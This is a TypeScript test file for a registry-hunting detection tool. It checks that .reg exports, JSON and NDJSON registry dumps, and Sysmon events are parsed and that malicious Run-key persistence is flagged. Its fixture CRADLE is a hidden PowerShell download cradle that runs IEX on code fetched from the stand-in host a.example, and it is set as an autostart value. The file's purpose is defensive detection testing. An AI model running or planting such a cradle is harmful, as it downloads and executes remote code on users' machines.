/** Registry snapshots hunted through the command line, with the indicators that events are hunted with. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../../../../cli/run-cli.ts';

const folder = mkdtempSync(join(tmpdir(), 'reghunt-snapshot-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

interface Report {
  readonly report: {
    readonly not_seen: readonly { readonly kind: string; readonly reason: string; readonly count: number }[];
  };
  readonly findings: readonly {
    readonly '@timestamp': string;
    readonly message: string;
    readonly host: { readonly hostname: string };
    readonly registry: { readonly path: string; readonly value: string };
    readonly reghunt: {
      readonly severity: string;
      readonly source: { readonly line: number; readonly ordinal?: number };
      readonly joins: Readonly<Record<string, { readonly status: string }>>;
    };
  }[];
}

async function hunt(name: string, content: string | Buffer, ...more: readonly string[]): Promise<Report> {
  const file = join(folder, name);
  writeFileSync(file, content);
  utimesSync(file, new Date('2026-05-04T03:02:01Z'), new Date('2026-05-04T03:02:01Z'));
  const { code, stdout, stderr } = await runCli(['hunt', '--format', 'json', '--input', file, ...more]);
  expect(code, stderr).toBe(0);
  return JSON.parse(stdout) as Report;
}

const shown = ({ findings }: Report) =>
  Object.fromEntries(findings.map(({ registry, reghunt }) => [registry.value, reghunt.severity]));

const HKCU = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const CRADLE =
  'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example/p\')"';
const REG = [
  'Windows Registry Editor Version 5.00',
  '',
  `[${HKCU}]`,
  `"Update"="${CRADLE.replaceAll('"', '\\"')}"`,
  '"Tool"="\\"C:\\\\Program Files\\\\Maker\\\\Tool.exe\\" -tray"',
  '[HKEY_CURRENT_USER\\Software\\Other]',
  '"x"=dword:00000001',
  '',
].join('\r\n');

describe.concurrent('a registry snapshot', () => {
  it('as reg export writes it is hunted like events, and says what it cannot tell', async () => {
    const report = await hunt('utf16.reg', Buffer.from(`\ufeff${REG}`, 'utf16le'), '--host', 'WS-7');
    expect(shown(report)).toEqual({ Update: 'critical', Tool: 'low' });
    expect(report.findings[0]).toMatchObject({
      '@timestamp': '2026-05-04T03:02:01.000Z',
      host: { hostname: 'ws-7' },
      registry: { path: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update' },
      reghunt: { joins: { writer: { status: 'missing' } } },
    });
    const { not_seen: notSeen } = report.report;
    expect(notSeen).toContainEqual(
      expect.objectContaining({
        kind: 'no_time',
        count: 3,
        reason: expect.stringContaining("file's own time") as string,
      }),
    );
    expect(notSeen.filter(({ kind }) => kind === 'kind_not_logged').length).toBeGreaterThan(0);
  });

  it('in the old text form gives the same', async () => {
    const old = REG.replace('Windows Registry Editor Version 5.00', 'REGEDIT4');
    expect(shown(await hunt('old.reg', old))).toEqual({ Update: 'critical', Tool: 'low' });
  });

  it.each([
    ['key, name, data', { key: HKCU, name: 'Update', data: CRADLE }],
    ['path, value_name, value_data', { path: HKCU, value_name: 'Update', value_data: CRADLE }],
    [
      'path, name, value',
      { path: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', name: 'Update', value: CRADLE },
    ],
    ['slashes', { key: HKCU.replaceAll('\\', '/'), name: 'Update', data: CRADLE }],
  ])('as a JSON list of %s is read', async (name, entry) => {
    expect(shown(await hunt(`${name}.json`, JSON.stringify([entry], null, 1)))).toEqual({
      Update: 'critical',
    });
  });

  it.each([
    [
      'key under its provider',
      { key: `Microsoft.PowerShell.Core\\Registry::${HKCU}`, name: 'Update', data: CRADLE },
    ],
    ['key without a root', { key: HKCU.slice(18), name: 'Update', data: CRADLE }],
    ['data in a list, type as a number', { key: HKCU, name: 'Update', data: [CRADLE], type: 1 }],
    ['path that ends in the name', { path: `${HKCU}\\Update`, data: CRADLE }],
  ])('holds a %s', async (name, entry) => {
    const list = [null, { note: 'no value' }, entry];
    const report = await hunt(`${name}.json`, JSON.stringify(list));
    expect(shown(report)).toEqual({ Update: 'critical' });
    expect(report.report.not_seen).toContainEqual(
      expect.objectContaining({ kind: 'unreadable_line', count: 2 }),
    );
  });

  it('takes a name that is null for the default value, and data of any type', async () => {
    const values = [
      { key: HKCU, name: null, data: CRADLE },
      { key: HKCU, name: 'None', data: null },
      { key: HKCU, name: 'Number', data: 5, type: 4 },
      { key: HKCU, name: 'Object', data: { a: CRADLE } },
    ];
    const found = shown(await hunt('types.json', JSON.stringify(values)));
    expect(found).toMatchObject({ '(Default)': 'critical', None: 'low', Number: 'low' });
    expect(found).toHaveProperty('Object');
  });

  it('is read from lines, packed, in a folder and from standard input alike', async () => {
    const lines = `${JSON.stringify({ key: HKCU, name: 'Update', data: CRADLE })}\n\nbroken\n`;
    const wanted = { Update: 'critical' };
    const report = await hunt('lines.ndjson', lines);
    expect(shown(report)).toEqual(wanted);
    expect(report.report.not_seen).toContainEqual(
      expect.objectContaining({ kind: 'unreadable_line', count: 1 }),
    );
    expect(shown(await hunt('lines.ndjson.gz', gzipSync(lines)))).toEqual(wanted);
    expect(
      shown(await hunt('packed.reg.gz', gzipSync(Buffer.from(`\ufeff${REG}`, 'utf16le')))),
    ).toMatchObject(wanted);
    const inner = join(folder, 'packed');
    mkdirSync(inner);
    writeFileSync(join(inner, 'a.json.gz'), gzipSync(lines));
    const whole = await runCli(['hunt', '--format', 'json', '--input', inner]);
    expect(shown(JSON.parse(whole.stdout) as Report)).toEqual(wanted);
    const args = ['hunt', '--format', 'json', '--input', '-'];
    const piped = await runCli(args, { stdin: REG });
    expect(shown(JSON.parse(piped.stdout) as Report)).toMatchObject(wanted);
  });

  it('of bare Sysmon events, one a line, is read too; what else comes from standard input is left as it is', async () => {
    const event = {
      event_id: '13',
      timestamp: '2026-05-04T01:00:01Z',
      process: 'C:\\Windows\\System32\\reg.exe',
      target_object: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update',
      details: CRADLE,
    };
    expect(shown(await hunt('bare.ndjson', `${JSON.stringify(event)}\n`))).toEqual({ Update: 'critical' });
    const args = ['hunt', '--format', 'json', '--input'];
    const stdin = readFileSync('demo/incident.ndjson', 'utf8');
    const piped = JSON.parse((await runCli([...args, '-'], { stdin })).stdout) as Report;
    const named = JSON.parse((await runCli([...args, 'demo/incident.ndjson'])).stdout) as Report;
    const told = ({ findings }: Report) => findings.map(({ message }) => message);
    expect(told(piped)).toEqual(told(named));
    expect(told(piped)).not.toEqual([]);
  });

  it('beside Sysmon events in one object is joined with nothing, and the events with each other', async () => {
    const guid = '{11111111-2222-3333-4444-555555555555}';
    const report = await hunt(
      'both.json',
      JSON.stringify({
        sysmon_events: [
          {
            EventID: 1,
            UtcTime: '2026-05-04 01:00:00.000',
            Computer: 'ws-8',
            EventData: { ProcessGuid: guid, Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg add' },
          },
          {
            event_id: '13',
            timestamp: '2026-05-04T01:00:01Z',
            Computer: 'ws-8',
            ProcessGuid: guid,
            image: 'C:\\Windows\\System32\\reg.exe',
            target_object:
              'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Event',
            details: CRADLE,
          },
        ],
        registry_entries: [{ key: HKCU, name: 'Entry', data: CRADLE }, { note: 'nothing' }],
      }),
    );
    expect(Object.keys(shown(report)).sort()).toEqual(['Entry', 'Event']);
    const [event, entry] = ['Event', 'Entry'].map((value) =>
      report.findings.find(({ registry }) => registry.value === value),
    );
    expect(event?.reghunt.source).toMatchObject({ line: 1, ordinal: 1 });
    expect(entry?.reghunt.source).toMatchObject({ line: 1, ordinal: 2 });
    expect(event).toMatchObject({ '@timestamp': '2026-05-04T01:00:01.000Z', host: { hostname: 'ws-8' } });
    expect(event?.reghunt.joins['writer']).toMatchObject({ status: 'found' });
    expect(report.report.not_seen).toContainEqual(
      expect.objectContaining({ kind: 'unreadable_line', count: 1 }),
    );
  });

  it('in a folder with event files is hunted with them', async () => {
    const inner = join(folder, 'mixed');
    mkdirSync(inner);
    writeFileSync(join(inner, 'a.reg'), REG);
    writeFileSync(
      join(inner, 'b.ndjson'),
      `${JSON.stringify({ SourceName: 'Microsoft-Windows-Sysmon', EventID: 13, Hostname: 'ws-9', UtcTime: '2026-05-04 01:00:00.000', Image: 'C:\\a.exe', TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Log', Details: 'C:\\Users\\Public\\a.exe' })}\n`,
    );
    const { stdout } = await runCli(['hunt', '--format', 'json', '--input', inner]);
    expect(Object.keys(shown(JSON.parse(stdout) as Report)).sort()).toEqual(['Log', 'Tool', 'Update']);
  });

  it('that is cut short is said to be, and ends with 3', async () => {
    const file = join(folder, 'cut.json');
    writeFileSync(file, JSON.stringify([{ key: HKCU, name: 'A', data: 'x' }, { key: HKCU }]).slice(0, -5));
    const { code, stderr } = await runCli(['hunt', '--input', file]);
    expect(code).toBe(3);
    expect(stderr).toMatch(/cut\.json.*not read whole/);
  });
});
